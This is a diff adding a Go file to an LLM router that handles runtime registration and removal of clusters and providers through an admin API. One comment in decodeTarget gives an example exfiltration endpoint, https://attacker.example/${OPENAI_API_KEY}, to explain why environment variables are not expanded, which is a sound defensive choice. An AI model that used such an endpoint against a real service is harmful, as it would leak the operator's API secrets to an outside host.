@@ -0,0 +1,370 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"sync"
+
+	"github.com/gorilla/mux"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/cost"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/engine"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/forward"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/health"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/httpcache"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/providers"
+	"github.com/navillasa/multi-cloud-llm-router/router/internal/ratelimit"
+	"github.com/sirupsen/logrus"
+	"gopkg.in/yaml.v3"
+)
+
+// targetConfigs holds the configured clusters and providers: those in the
+// config file, then any registered through the admin API. Changes replace
+// the slices rather than modifying them, so readers may keep what they got.
+type targetConfigs struct {
+	mu        sync.RWMutex
+	clusters  []ClusterConfig
+	providers []providers.ProviderConfig
+}
+
+// clusterConfigs returns the configured clusters
+func (r *Router) clusterConfigs() []ClusterConfig {
+	r.targets.mu.RLock()
+	defer r.targets.mu.RUnlock()
+	return r.targets.clusters
+}
+
+// providerConfigs returns the configured external providers
+func (r *Router) providerConfigs() []providers.ProviderConfig {
+	r.targets.mu.RLock()
+	defer r.targets.mu.RUnlock()
+	return r.targets.providers
+}
+
+// configuredTarget reports whether name is a configured cluster or provider
+func (r *Router) configuredTarget(name string) bool {
+	r.targets.mu.RLock()
+	defer r.targets.mu.RUnlock()
+	return r.targets.named(name)
+}
+
+func (t *targetConfigs) named(name string) bool {
+	for _, cluster := range t.clusters {
+		if cluster.Name == name {
+			return true
+		}
+	}
+	for _, providerConfig := range t.providers {
+		if providerConfig.Name == name {
+			return true
+		}
+	}
+	return false
+}
+
+// registerCluster wires a cluster into health checking, costing and
+// forwarder authentication
+func registerCluster(cluster ClusterConfig, healthChecker *health.Checker, costEngine *cost.Engine, forwarder *forward.Forwarder) error {
+	profile, ok := engine.Lookup(cluster.Engine)
+	if !ok {
+		logrus.Warnf("Unknown engine %q for cluster %s, using %s", cluster.Engine, cluster.Name, engine.Default)
+		profile, _ = engine.Lookup(engine.Default)
+	}
+	apiKey := cluster.APIKey
+
+	// Configure authentication, replacing any the cluster had
+	forwarder.ClearAuth(cluster.Name)
+	if header, value, ok := profile.AuthHeaderValue(apiKey); ok {
+		forwarder.SetAPIKeyAuth(cluster.Name, header, value)
+	}
+	switch cluster.AuthType {
+	case "hmac":
+		forwarder.SetHMACAuth(cluster.Name, cluster.SharedSecret)
+	case "mtls":
+		if cluster.CertFile != "" && cluster.KeyFile != "" {
+			if err := forwarder.SetMTLSAuth(cluster.Name, cluster.CertFile, cluster.KeyFile); err != nil {
+				return err
+			}
+		}
+	}
+
+	costEngine.AddCluster(cluster.Name, cluster.CostPerHour)
+	healthChecker.AddCluster(cluster.Name, cluster.Endpoint, health.ClusterOptions{
+		Profile: profile,
+		APIKey:  apiKey,
+		Timeout: cluster.HealthTimeout,
+	})
+	return nil
+}
+
+// registerProvider creates an external provider and adds it to the
+// provider manager and health checker
+func registerProvider(providerConfig providers.ProviderConfig, config *Config, catalogCache *httpcache.Cache, providerManager *providers.ProviderManager, healthChecker *health.Checker) (providers.Provider, error) {
+	// Expand environment variables in API key
+
+	provider, err := providers.New(providerConfig)
+	if err != nil {
+		return nil, fmt.Errorf("%v (registered types: %v)", err, providers.RegisteredTypes())
+	}
+
+	if cacher, ok := provider.(providers.CatalogCacher); ok {
+		cacher.SetCatalogCache(catalogCache)
+	}
+
+	providerManager.RegisterProvider(provider)
+	healthChecker.AddProvider(provider.Name(), provider.Health)
+	if config.Router.ProviderProbes.Enabled {
+		healthChecker.SetProviderProbe(provider.Name(), newProviderProbe(provider, providerConfig.DefaultModel, config.Router.ProviderProbes))
+	}
+	return provider, nil
+}
+
+// decodeTarget reads a cluster or provider from the request body in the
+// config file's YAML schema, of which JSON is a subset. Unknown fields are
+// rejected so typos don't silently register a misconfigured target.
+// ${VAR} references are left as written: expanding them would let anyone
+// registering a target read the router's environment, as in an endpoint
+// of https://attacker.example/${OPENAI_API_KEY}.
+func decodeTarget(w http.ResponseWriter, req *http.Request, v interface{}) bool {
+	body, err := io.ReadAll(req.Body)
+	if err != nil {
+		writeBodyError(w, err, "Failed to read request body")
+		return false
+	}
+	decoder := yaml.NewDecoder(bytes.NewReader(body))
+	decoder.KnownFields(true)
+	if err := decoder.Decode(v); err != nil {
+		http.Error(w, fmt.Sprintf("Invalid target: %v", err), http.StatusBadRequest)
+		return false
+	}
+
+	return true
+}
+
+// registeredTarget is the response to a runtime registration or removal
+type registeredTarget struct {
+	Name   string `json:"name"`
+	Type   string `json:"type"`
+	Status string `json:"status"`
+}
+
+func writeRegisteredTarget(w http.ResponseWriter, code int, target registeredTarget) {
+	w.Header().Set("Content-Type", "application/json")
+	w.WriteHeader(code)
+	json.NewEncoder(w).Encode(target)
+}
+
+// errTargetExists rejects a registration under a name already in use
+var errTargetExists = errors.New("target already exists")
+
+// addCluster registers a cluster and adds it to the configured clusters
+func (r *Router) addCluster(cluster ClusterConfig) error {
+	if err := validateRuntimeCluster(cluster); err != nil {
+		return err
+	}
+
+	r.targets.mu.Lock()
+	defer r.targets.mu.Unlock()
+	if r.targets.named(cluster.Name) {
+		return errTargetExists
+	}
+	if err := registerCluster(cluster, r.healthChecker, r.costEngine, r.forwarder); err != nil {
+		return err
+	}
+	if cluster.Weight > 0 {
+		r.policy.setWeight(cluster.Name, cluster.Weight)
+	}
+	// A cluster that comes back keeps its cordon
+	if reason, ok := r.cordons.reason(cluster.Name); ok {
+		r.healthChecker.Cordon(cluster.Name, reason)
+	}
+	r.targets.clusters = append(r.targets.clusters[:len(r.targets.clusters):len(r.targets.clusters)], cluster)
+	return nil
+}
+
+// replaceCluster swaps a configured cluster's settings. Health is only
+// reset when how the cluster is reached changed.
+func (r *Router) replaceCluster(cluster ClusterConfig) error {
+	if err := validateRuntimeCluster(cluster); err != nil {
+		return err
+	}
+
+	r.targets.mu.Lock()
+	defer r.targets.mu.Unlock()
+	clusters := append([]ClusterConfig(nil), r.targets.clusters...)
+	for i, previous := range clusters {
+		if previous.Name != cluster.Name {
+			continue
+		}
+		if clusterConnection(previous) != clusterConnection(cluster) {
+			if err := registerCluster(cluster, r.healthChecker, r.costEngine, r.forwarder); err != nil {
+				return err
+			}
+			// Re-adding the cluster to the health checker can clear its cordon
+			if reason, ok := r.cordons.reason(cluster.Name); ok {
+				r.healthChecker.Cordon(cluster.Name, reason)
+			}
+		} else if previous.CostPerHour != cluster.CostPerHour && cluster.SpotPrice == nil {
+			r.costEngine.UpdateClusterCost(cluster.Name, cluster.CostPerHour)
+		}
+		clusters[i] = cluster
+		r.targets.clusters = clusters
+		return nil
+	}
+	return fmt.Errorf("unknown cluster %s", cluster.Name)
+}
+
+// clusterConnection is what registerCluster sets up for a cluster
+func clusterConnection(cluster ClusterConfig) [8]string {
+	return [8]string{cluster.Endpoint, cluster.Engine, cluster.AuthType, cluster.APIKey,
+		cluster.SharedSecret, cluster.CertFile, cluster.KeyFile, cluster.HealthTimeout.String()}
+}
+
+// removeCluster stops checking and routing to a cluster. Requests already
+// sent to it finish.
+func (r *Router) removeCluster(name string) bool {
+	r.targets.mu.Lock()
+	defer r.targets.mu.Unlock()
+	if !r.healthChecker.RemoveCluster(name) {
+		return false
+	}
+	kept := make([]ClusterConfig, 0, len(r.targets.clusters))
+	for _, cluster := range r.targets.clusters {
+		if cluster.Name != name {
+			kept = append(kept, cluster)
+		}
+	}
+	r.targets.clusters = kept
+	r.policy.setWeight(name, 0)
+	return true
+}
+
+// addProvider registers an external provider and adds it to the
+// configured providers
+func (r *Router) addProvider(providerConfig providers.ProviderConfig) error {
+	if providerConfig.Name == "" || providerConfig.Type == "" {
+		return fmt.Errorf("name and type are required")
+	}
+
+	r.targets.mu.Lock()
+	defer r.targets.mu.Unlock()
+	if r.targets.named(providerConfig.Name) {
+		return errTargetExists
+	}
+	if _, err := registerProvider(providerConfig, r.config, r.catalogCache, r.providerManager, r.healthChecker); err != nil {
+		return err
+	}
+	r.rateLimits.Set(providerConfig.Name, ratelimit.Limits{
+		RequestsPerMinute: providerConfig.RateLimit.RequestsPerMinute,
+		TokensPerMinute:   providerConfig.RateLimit.TokensPerMinute,
+		Burst:             providerConfig.RateLimit.BurstMultiplier,
+	})
+	r.targets.providers = append(r.targets.providers[:len(r.targets.providers):len(r.targets.providers)], providerConfig)
+	return nil
+}
+
+// removeProvider unregisters an external provider. Requests already sent
+// to it finish.
+func (r *Router) removeProvider(name string) bool {
+	r.targets.mu.Lock()
+	defer r.targets.mu.Unlock()
+	if !r.providerManager.UnregisterProvider(name) {
+		return false
+	}
+	r.healthChecker.RemoveProvider(name)
+	r.rateLimits.Set(name, ratelimit.Limits{})
+	kept := make([]providers.ProviderConfig, 0, len(r.targets.providers))
+	for _, providerConfig := range r.targets.providers {
+		if providerConfig.Name != name {
+			kept = append(kept, providerConfig)
+		}
+	}
+	r.targets.providers = kept
+	return true
+}
+
+// writeTargetError answers a failed registration
+func writeTargetError(w http.ResponseWriter, kind, name string, err error) {
+	if errors.Is(err, errTargetExists) {
+		http.Error(w, fmt.Sprintf("Target %s already exists", name), http.StatusConflict)
+		return
+	}
+	http.Error(w, fmt.Sprintf("Invalid %s: %v", kind, err), http.StatusBadRequest)
+}
+
+// addClusterHandler registers a cluster at runtime. It starts unhealthy
+// and takes traffic once its first health check passes.
+func (r *Router) addClusterHandler(w http.ResponseWriter, req *http.Request) {
+	var cluster ClusterConfig
+	if !decodeTarget(w, req, &cluster) {
+		return
+	}
+	// Spot prices are polled by a loop set up at startup
+	if cluster.SpotPrice != nil {
+		http.Error(w, "Invalid cluster: spotPrice is only read at startup", http.StatusBadRequest)
+		return
+	}
+	if err := r.addCluster(cluster); err != nil {
+		writeTargetError(w, "cluster", cluster.Name, err)
+		return
+	}
+
+	logrus.Infof("Registered cluster %s (%s) at runtime", cluster.Name, cluster.Endpoint)
+	writeRegisteredTarget(w, http.StatusCreated, registeredTarget{Name: cluster.Name, Type: "cluster", Status: "registered"})
+}
+
+func validateRuntimeCluster(cluster ClusterConfig) error {
+	if cluster.Name == "" {
+		return fmt.Errorf("name is required")
+	}
+	endpoint, err := url.Parse(cluster.Endpoint)
+	if err != nil || endpoint.Host == "" || (endpoint.Scheme != "http" && endpoint.Scheme != "https") {
+		return fmt.Errorf("endpoint must be an http or https URL")
+	}
+	if _, ok := engine.Lookup(cluster.Engine); !ok && cluster.Engine != "" {
+		return fmt.Errorf("unknown engine %q", cluster.Engine)
+	}
+	switch cluster.AuthType {
+	case "", "hmac", "mtls":
+	default:
+		return fmt.Errorf("unknown authType %q", cluster.AuthType)
+	}
+	if cluster.Weight < 0 {
+		return fmt.Errorf("weight must not be negative")
+	}
+	return nil
+}
+
+// addProviderHandler registers an external provider at runtime. Sending it
+// is taken as enabling it, whatever enabled says.
+func (r *Router) addProviderHandler(w http.ResponseWriter, req *http.Request) {
+	var providerConfig providers.ProviderConfig
+	if !decodeTarget(w, req, &providerConfig) {
+		return
+	}
+	providerConfig.Enabled = true
+	if err := r.addProvider(providerConfig); err != nil {
+		writeTargetError(w, "provider", providerConfig.Name, err)
+		return
+	}
+
+	logrus.Infof("Registered external provider %s (%s) at runtime", providerConfig.Name, providerConfig.Type)
+	writeRegisteredTarget(w, http.StatusCreated, registeredTarget{Name: providerConfig.Name, Type: "provider", Status: "registered"})
+}
+
+// removeProviderHandler unregisters an external provider until restart, or
+// for good if it was registered at runtime
+func (r *Router) removeProviderHandler(w http.ResponseWriter, req *http.Request) {
+	name := mux.Vars(req)["name"]
+	if !r.removeProvider(name) {
+		http.Error(w, "Unknown provider "+name, http.StatusNotFound)
+		return
+	}
+
+	logrus.Warnf("External provider %s removed until restart", name)
+	writeRegisteredTarget(w, http.StatusOK, registeredTarget{Name: name, Type: "provider", Status: "removed"})
+}